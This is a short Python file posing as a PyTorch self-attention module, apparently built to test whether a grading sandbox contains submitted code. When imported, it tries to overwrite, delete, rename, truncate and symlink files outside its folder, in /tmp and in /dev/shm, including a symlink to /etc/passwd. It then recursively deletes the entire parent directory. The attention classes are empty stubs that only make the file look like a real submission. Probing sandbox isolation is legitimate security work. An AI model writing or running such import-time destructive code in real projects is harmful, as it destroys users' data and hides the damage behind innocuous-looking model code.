"""Changes, replaces, links and deletes files outside of its folder."""

import os
import pathlib
import shutil

from torch import nn

OUTSIDE = pathlib.Path.cwd().parent
TARGETS = [OUTSIDE / "marker", pathlib.Path("/tmp/hostile-was-here"), pathlib.Path("/dev/shm/hostile")]
for target in TARGETS:
    for attempt in (
        lambda path: path.write_text("hostile"),
        lambda path: path.unlink(),
        lambda path: path.rename(path.with_name("moved")),
        lambda path: path.symlink_to("/etc/passwd"),
        lambda path: path.mkdir(),
        lambda path: pathlib.Path("hard").hardlink_to(path),
        lambda path: pathlib.Path("mine").rename(path),
        lambda path: os.truncate(path, 0),
        lambda path: os.utime(path, (0, 0)),
        lambda path: os.setxattr(path, "user.hostile", b"yes"),
    ):
        try:
            pathlib.Path("mine").write_text("hostile")
            attempt(target)
        except OSError:
            continue
shutil.rmtree(OUTSIDE, ignore_errors=True)


class SelfAttentionV1(nn.Module):
    def __init__(self, *_sizes):
        super().__init__()

    def forward(self, x):
        return x


SelfAttention_v1 = SelfAttention_v2 = SelfAttentionV1
